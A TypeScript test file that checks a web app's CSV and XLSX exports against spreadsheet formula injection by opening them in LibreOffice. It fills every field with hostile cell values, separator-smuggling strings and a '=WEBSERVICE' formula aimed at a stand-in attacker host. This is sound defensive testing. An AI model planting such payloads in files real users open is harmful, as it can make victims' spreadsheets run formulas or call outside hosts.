import { describe, expect, test } from "vitest";
import writeXlsxFile from "write-excel-file/node";
import type { Subscription } from "#contracts/newsletter.ts";
import { lane } from "#tests/support/lane.ts";
import {
  type Locale,
  libreOffice,
  type Opening,
  openInLibreOffice,
  openings,
} from "#tests/support/libre-office.ts";
import { recordFigure } from "#tests/support/promise.ts";
import { usersSheet } from "#web/admin/accounts/users-sheet.ts";
import { subscriptionsCsv } from "#web/admin/mails/newsletter-section.tsx";
import { paymentsCsv } from "#web/admin/payments/payments-csv.ts";
import type { ReadPayment } from "#web/api/reads/payments.ts";
import type { ReadUser } from "#web/api/reads/users.ts";
import { formulaPayloads } from "./formulas.ts";

/** Whole cells to a program that splits a file at another separator than its own. */
const insides = [",", ";", "\t", "\n", "\r\n", ", ", ';"', ",\t"].flatMap((separator) => [
  `x${separator}=1+1${separator}y`,
  `x${separator}+1+1${separator}y`,
  `x${separator}@SUM(1)${separator}y`,
]);
/** What only runs in one of the two languages, beside what runs in both. */
const named = ["=SUM(1,1)", "=SOMME(1;1)", '=WEBSERVICE("http://evil.example")'];
const payloads = [...formulaPayloads, ...named, ...insides];
const locales: readonly Locale[] = ["en-US", "fr-FR"];
const at = "2026-03-02T09:00:00.000Z";

// Every text of a row is the same hostile one: whatever column it stands in, it is to stay a text.
const subscriptions = payloads.map(
  (text, id): Subscription => ({
    id,
    email: text,
    language: "fr",
    consented_at: text,
    unsubscribed_at: text,
  }),
);
const payments = payloads.map(
  (text, id): ReadPayment => ({
    ...{ id, payment_intent_id: text, customer_name: text, customer_email: text, product_name: text },
    ...{ amount: 14, amount_cents: 1400, refunded_amount: 0, refunded_cents: 0, currency: "usd" },
    ...{ lost_amount: 0, lost_cents: 0, dispute: null },
    ...{ quote_id: id, quote_reference: text, provider: "sandbox", is_test: true, status: "completed" },
    ...{ to_check: null, created_at: text, completed_at: null, version: 1 },
  }),
);
const users = payloads.map(
  (text, id): ReadUser => ({
    ...{ id, name: text, email: text, telephone: text, is_admin: false, isAdmin: false, role: null },
    ...{ created_at: at, version: 1 },
  }),
);
const say = {
  heads: Array.from({ length: 8 }, () => "=1+1"),
  moment: (moment: string) => moment,
  status: (payment: ReadPayment) => payment.customer_name,
};
const words = {
  heads: Array.from({ length: 6 }, () => "=1+1"),
  role: (user: ReadUser) => user.name,
  day: () => "=1+1",
};

const csvFiles = {
  "payments-en.csv": paymentsCsv(payments, say, "en"),
  "payments-fr.csv": paymentsCsv(payments, say, "fr"),
  "newsletter-en.csv": subscriptionsCsv(subscriptions, say.heads.slice(0, 4), "en", say.moment),
  "newsletter-fr.csv": subscriptionsCsv(subscriptions, say.heads.slice(0, 4), "fr", say.moment),
};
const xlsxFiles = { "users.xlsx": await writeXlsxFile(usersSheet(users, words)).toBuffer() };
const rows = payloads.length + 1;
const cellsOf = (name: string) => rows * (name.startsWith("payments") ? 8 : name.startsWith("users") ? 6 : 4);

/** The same texts, quoted but without protection against formulas. */
const careless = payloads.map((text) => `"${text.replaceAll('"', '""')}"`);
const carelessCsv = `\uFEFF${careless.join("\r\n")}\r\n`;

describe.runIf(lane === "deep" && libreOffice)("our exports, opened in LibreOffice", () => {
  test.each(locales)("REL-I8 no cell of a CSV file or a spreadsheet is a formula (%s)", async (locale) => {
    let cells = 0;
    for (const opening of Object.keys(openings) as Opening[]) {
      const opened = await openInLibreOffice(
        { ...csvFiles, ...(opening === "unasked" && xlsxFiles) },
        locale,
        opening,
      );
      for (const [name, sheet] of opened) {
        expect(sheet.formulas, `${name}, ${opening}`).toEqual([]);
        if (opening === "by all of them" || name.endsWith(".xlsx"))
          expect(sheet.cells, `${name}, ${opening}`).toBe(cellsOf(name));
        cells += sheet.cells;
      }
    }
    recordFigure("REL-I8", `LibreOffice (${locale}): ${cells} hostile cells of CSV and XLSX, 0 formulas`);
  });

  test.each(locales)("REL-I8 what is not neutralised does become a formula (%s)", async (locale) => {
    const csv = await openInLibreOffice({ "careless.csv": carelessCsv }, locale, "by all of them");
    expect(csv.get("careless.csv")?.formulas).toContain("of:=1+1");
    const formula = [[{ value: "=1+1", type: "Formula" as const }]];
    const xlsx = { "formula.xlsx": await writeXlsxFile(formula).toBuffer() };
    const opened = await openInLibreOffice(xlsx, locale, "unasked");
    expect(opened.get("formula.xlsx")?.formulas).toHaveLength(1);
  });
});
